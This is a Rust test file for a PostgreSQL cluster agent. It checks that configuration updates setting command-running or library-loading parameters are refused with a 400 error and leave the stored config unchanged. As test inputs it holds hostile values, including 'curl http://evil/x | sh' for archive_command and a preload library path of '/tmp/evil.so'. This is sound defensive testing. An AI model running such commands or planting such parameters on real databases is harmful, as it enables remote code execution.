//! Issue 11.5 at the agent: `PATCH /config` and `PUT /config` that would put a parameter that
//! runs a command or loads code into the DCS are refused with 400 and the key path, and the
//! `config` key stays as it was.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use baton_agent::peers::Peers;
use baton_agent::{Agent, AgentIo};
use baton_api::{Command, CommandReply, Snapshot};
use baton_core::{
    Clock, ClusterView, HistoryLine, LeaseState, MemberName, Mono, PeerStatus, PgState, StartRole,
    StopMode, Upstream,
};
use baton_dcs::{Dcs, DcsScope, MemDcs};
use baton_pg::{PgError, Postgres, Reconfigured};
use serde_json::{Map, Value, json};
use tokio::sync::{oneshot, watch};

struct ZeroClock;

impl Clock for ZeroClock {
    fn now(&self) -> Mono {
        Mono::from_millis(0)
    }

    /// 2026-11-22T05:00:00Z plus the test's monotonic time.
    fn unix_ms(&self) -> i64 {
        1_795_323_600_000 + self.now().as_millis() as i64
    }
}

/// A PostgreSQL that is never asked for anything by these commands.
struct NoPg;

impl Postgres for NoPg {
    async fn observe(&self) -> PgState {
        PgState::default()
    }
    async fn initdb(&self) -> Result<(), PgError> {
        Ok(())
    }
    async fn start(&self, _role: &StartRole) -> Result<(), PgError> {
        Ok(())
    }
    async fn stop(&self, _mode: StopMode) -> Result<(), PgError> {
        Ok(())
    }
    async fn promote(&self) -> Result<(), PgError> {
        Ok(())
    }
    async fn follow(&self, _upstream: &Upstream) -> Result<bool, PgError> {
        Ok(false)
    }
    async fn clone_replica(&self, _upstream: &Upstream) -> Result<(), PgError> {
        Ok(())
    }
    async fn rewind(&self, _upstream: &Upstream) -> Result<(), PgError> {
        Ok(())
    }
    async fn reconfigure(
        &self,
        _parameters: &BTreeMap<String, String>,
        _pg_hba: &[String],
    ) -> Result<Reconfigured, PgError> {
        Ok(Reconfigured::default())
    }
    async fn wipe_data_dir(&self) -> Result<(), PgError> {
        Ok(())
    }
    async fn create_roles(&self) -> Result<(), PgError> {
        Ok(())
    }
    async fn ensure_slots(&self, _slots: &[String]) -> Result<(), PgError> {
        Ok(())
    }
    async fn timeline_history(&self) -> Result<Vec<HistoryLine>, PgError> {
        Ok(vec![])
    }
}

struct NoPeers;

impl Peers for NoPeers {
    async fn probe(
        &self,
        _view: &ClusterView,
        _me: &MemberName,
        _timeout: Duration,
    ) -> Vec<PeerStatus> {
        Vec::new()
    }
}

const CONFIG: &str = "\
scope: batman
name: postgresql0
restapi:
  listen: 127.0.0.1:8008
  connect_address: 127.0.0.1:8008
etcd3:
  host: 127.0.0.1:2379
postgresql:
  listen: 127.0.0.1:5432
  connect_address: 127.0.0.1:5432
  data_dir: data/postgresql0
  authentication:
    superuser:
      username: postgres
      password: patroni
    replication:
      username: replicator
      password: rep-pass
  pg_hba:
    - host all all 127.0.0.1/32 scram-sha-256
";

const STORED: &str = r#"{"ttl":30,"loop_wait":10,"postgresql":{"parameters":{"work_mem":"8MB"}}}"#;

fn object(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        other => panic!("not an object: {other}"),
    }
}

async fn agent_over(dcs: Arc<MemDcs>) -> Agent<MemDcs, NoPg, NoPeers> {
    let config = baton_config::load_str(CONFIG, &|_| None)
        .expect("valid configuration")
        .config;
    let name = MemberName::new("postgresql0".to_owned()).expect("name");
    let (_lease_tx, lease_rx) = watch::channel(LeaseState::default());
    let (leading_tx, _leading_rx) = watch::channel(Default::default());
    let (snap_tx, _snap_rx) = watch::channel(Arc::new(Snapshot::initial(
        "batman",
        name,
        String::new(),
        String::new(),
    )));
    let io = AgentIo {
        dcs,
        pg: Arc::new(NoPg),
        peers: NoPeers,
        clock: Arc::new(ZeroClock),
    };
    Agent::new(
        io,
        config,
        baton_config::DynamicConfig::defaults(),
        lease_rx,
        leading_tx,
        snap_tx,
    )
    .expect("agent")
}

async fn stored(dcs: &MemDcs) -> (String, i64) {
    let view = dcs.read_cluster().await.expect("read");
    let config = view.config.expect("config key");
    (config.value, config.mod_revision)
}

#[tokio::test]
async fn a_patch_or_put_that_sets_a_command_parameter_is_refused_and_changes_nothing() {
    let scope = DcsScope {
        namespace: "/service".into(),
        scope: "batman".into(),
    };
    let dcs = Arc::new(MemDcs::new(scope, Arc::new(ZeroClock)));
    assert!(dcs.write_config(STORED, Some(0)).await.expect("write"));
    let before = stored(&dcs).await;
    let mut agent = agent_over(dcs.clone()).await;

    for (name, value) in [
        ("archive_command", "curl http://evil/x | sh"),
        ("restore_command", "sh -c evil"),
        ("Shared_Preload_Libraries", "/tmp/evil.so"),
        ("ssl_passphrase_command", "sh -c evil"),
    ] {
        let patch = object(json!({"postgresql": {"parameters": {name: value}}}));
        let (tx, rx) = oneshot::channel();
        agent
            .handle(Command::PatchConfig { patch, reply: tx })
            .await;
        let reply = rx.await.expect("reply");
        let CommandReply::Text(400, body) = &reply else {
            panic!("PATCH {name}: expected 400, got {reply:?}");
        };
        assert!(
            body.contains(&format!(
                "postgresql.parameters.{name}: refused in the dynamic configuration"
            )),
            "PATCH {name}: {body}"
        );
        assert_eq!(stored(&dcs).await, before, "PATCH {name} changed the DCS");

        let config = object(json!({"ttl": 30, "postgresql": {"parameters": {name: value}}}));
        let (tx, rx) = oneshot::channel();
        agent
            .handle(Command::ReplaceConfig {
                config,
                expected_revision: None,
                reply: tx,
            })
            .await;
        let reply = rx.await.expect("reply");
        assert!(
            matches!(&reply, CommandReply::Text(400, b) if b.contains(&format!("postgresql.parameters.{name}"))),
            "PUT {name}: {reply:?}"
        );
        assert_eq!(stored(&dcs).await, before, "PUT {name} changed the DCS");
    }

    // The same endpoint still changes an ordinary parameter: the refusal is not blanket.
    let patch = object(json!({"postgresql": {"parameters": {"work_mem": "16MB"}}}));
    let (tx, rx) = oneshot::channel();
    agent
        .handle(Command::PatchConfig { patch, reply: tx })
        .await;
    let reply = rx.await.expect("reply");
    assert!(matches!(reply, CommandReply::Json(200, _)), "{reply:?}");
    assert!(stored(&dcs).await.0.contains("16MB"));
}
